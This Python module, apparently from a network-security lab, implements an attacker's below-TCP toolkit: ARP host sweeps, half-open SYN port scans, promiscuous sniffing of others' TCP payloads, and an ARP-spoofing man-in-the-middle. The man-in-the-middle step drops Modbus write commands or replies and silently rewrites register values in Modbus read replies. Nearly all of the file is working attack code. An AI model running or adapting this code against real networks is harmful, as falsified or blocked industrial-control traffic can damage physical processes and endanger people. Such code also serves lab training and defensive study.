# What an attacker does below TCP from a host of the lab, in a process of its own that is inside that
# host's network and nowhere else: addresses swept by ARP, ports scanned half-open, frames overheard,
# and the man in the middle between two hosts, who lets by, alters or drops what they say.
from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

from . import raw
from .ground import in_lab, raw_lab_socket
from .modbus import READS, WRITES, function_of
from .raw import Segment

__all__ = ["Between", "intercepted", "overheard", "scanned", "swept"]

_LINK = "eth0"
_MODBUS = 502
_SPOOF_EVERY = 0.5
_PACKET, _ADD_MEMBERSHIP, _PROMISCUOUS = 263, 1, 1
# Frames that this host sends itself.
_OUTGOING = 4
_MOST_OVERHEARD = 5000


@dataclass(frozen=True)
class Between:
    """Two hosts and what is done to what passes between them, for how many seconds of the machine.

    `alter` is a register of Modbus and the number that replies show in it; `drop` is "replies",
    "commands" or "".
    """

    one: str
    other: str
    seconds: float
    alter: tuple[int, int] | None = None
    drop: str = ""


@dataclass
class _Middle:
    """What the man in the middle knows: whose MAC is whose, and what was asked for."""

    macs: dict[str, bytes]
    # By client's port and transaction: the first register of a read.
    asked: dict[tuple[int, bytes], int] = field(default_factory=dict)
    altered: int = 0
    dropped: int = 0


def swept(own: str, addresses: Sequence[str], seconds: float) -> dict[str, str]:
    """Which of these addresses answer to ARP, with their MACs."""
    with _packets(raw.ARP) as link:
        for each in addresses:
            link.send(raw.arp_frame(raw.REQUEST, _mac(link), own, b"", each))
        found = {}
        for frame in _frames(link, seconds):
            told = raw.read_arp(frame)
            if told and told.operation == raw.REPLY and told.address in addresses:
                found[told.address] = told.mac.hex(":")
        return found


def scanned(own: str, targets: Sequence[tuple[str, int]], seconds: float) -> list[tuple[str, int]]:
    """Which of these ports are open; no connection is ever made."""
    wanted, found = set(targets), set()
    with raw_lab_socket(own) as asking:
        for number, (address, port) in enumerate(targets):
            asking.sendto(
                raw.syn(own, 40_000 + number % 20_000, address, port, number), (in_lab(address), 0)
            )
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            if not select.select([asking], [], [], left)[0]:
                break
            packet = asking.recv(2048)
            at = 4 * (packet[0] & 15)
            place = (socket.inet_ntoa(packet[12:16]), int.from_bytes(packet[at : at + 2], "big"))
            accepts = packet[at + 13] & (raw.SYN | raw.ACKNOWLEDGED) == raw.SYN | raw.ACKNOWLEDGED
            if place in wanted and accepts:
                found.add(place)
    return sorted(found)


def overheard(own: str, seconds: float) -> list[bytes]:
    """Payloads of TCP that others sent and that came by this host."""
    found: list[bytes] = []
    with _packets(raw.IPV4, promiscuous=True) as link:
        for frame in _frames(link, seconds):
            segment = raw.read_segment(frame)
            if segment and own not in {segment.source, segment.destination}:
                payload = frame[segment.payload_at : segment.end]
                if payload and len(found) < _MOST_OVERHEARD:
                    found.append(payload)
    return found


def intercepted(own: str, between: Between) -> tuple[list[bytes], int, int]:
    """Payloads that came by, how many frames were altered, and how many dropped.

    Both ends are told that the other is here, again and again; at the end they are told the truth.
    """
    found = swept(own, (between.one, between.other), 1.0)
    if len(found) < 2:
        return [], 0, 0
    middle = _Middle({at: bytes.fromhex(mac.replace(":", "")) for at, mac in found.items()})
    payloads: list[bytes] = []
    with _packets(raw.IPV4, promiscuous=True) as link:
        mine = _mac(link)
        end, told = time.monotonic() + between.seconds, 0.0
        while (now := time.monotonic()) < end:
            if now >= told:
                _tell(link, between, middle.macs, {between.one: mine, between.other: mine})
                told = now + _SPOOF_EVERY
            for frame in _frames(link, min(_SPOOF_EVERY, end - now), once=True):
                # Only what was sent here for the other end.
                if frame[:6] == mine and (passed := _passed(frame, between, middle, payloads)):
                    link.send(middle.macs[_end_of(frame)] + mine + passed[12:])
        _tell(link, between, middle.macs, middle.macs)
    return payloads, middle.altered, middle.dropped


def _passed(frame: bytes, between: Between, middle: _Middle, payloads: list[bytes]) -> bytes | None:
    """What is sent on of a frame between the two; None for nothing."""
    ends = {between.one, between.other}
    if {socket.inet_ntoa(frame[26:30]), _end_of(frame)} != ends:
        return None
    segment = raw.read_segment(frame)
    if segment is None:
        return frame
    payload = frame[segment.payload_at : segment.end]
    if payload and len(payloads) < _MOST_OVERHEARD:
        payloads.append(payload)
    if payload and segment.port == _MODBUS:
        if between.drop == "commands" and function_of(payload) in WRITES:
            middle.dropped += 1
            return None
        if len(payload) >= 12 and function_of(payload) in READS:
            (first,) = struct.unpack_from("!H", payload, 8)
            middle.asked[segment.source_port, payload[:2]] = first
    if payload and segment.source_port == _MODBUS:
        if between.drop == "replies":
            middle.dropped += 1
            return None
        return _altered(frame, segment, between, middle)
    return frame


def _altered(frame: bytes, segment: Segment, between: Between, middle: _Middle) -> bytes:
    """A reply with the register as it should look."""
    payload = frame[segment.payload_at : segment.end]
    first = middle.asked.pop((segment.port, payload[:2]), None)
    if between.alter is None or first is None or function_of(payload) not in {3, 4}:
        return frame
    register, number = between.alter
    at = 9 + 2 * (register - first)
    if not 9 <= at <= len(payload) - 2:
        return frame
    changed = bytearray(frame)
    start = segment.payload_at + at
    changed[start : start + 2] = struct.pack("!H", number)
    raw.mended(changed, segment)
    middle.altered += 1
    return bytes(changed)


def _end_of(frame: bytes) -> str:
    return socket.inet_ntoa(frame[30:34])


def _tell(
    link: socket.socket, between: Between, macs: dict[str, bytes], said: dict[str, bytes]
) -> None:
    """Each end told where the other is, true or not."""
    for here, there in ((between.one, between.other), (between.other, between.one)):
        frame = raw.arp_frame(raw.REPLY, said[there], there, macs[here], here)
        link.send(frame[:6] + _mac(link) + frame[12:])


def _packets(kind: int, *, promiscuous: bool = False) -> socket.socket:
    """A socket for whole frames of the one link that this network has."""
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(kind))
    made.bind((_LINK, kind))
    made.setblocking(False)
    if promiscuous:
        joined = struct.pack("iHH8s", socket.if_nametoindex(_LINK), _PROMISCUOUS, 0, b"")
        made.setsockopt(_PACKET, _ADD_MEMBERSHIP, joined)
    return made


def _mac(link: socket.socket) -> bytes:
    return bytes(link.getsockname()[4])


def _frames(link: socket.socket, seconds: float, *, once: bool = False) -> Iterator[bytes]:
    """Frames of others as they come, for so long, or (`once`) those of one moment."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        if not select.select([link], [], [], left)[0]:
            return
        while True:
            try:
                frame, place = link.recvfrom(65_535)
            except BlockingIOError:
                break
            if place[2] != _OUTGOING:
                yield frame
        if once:
            return
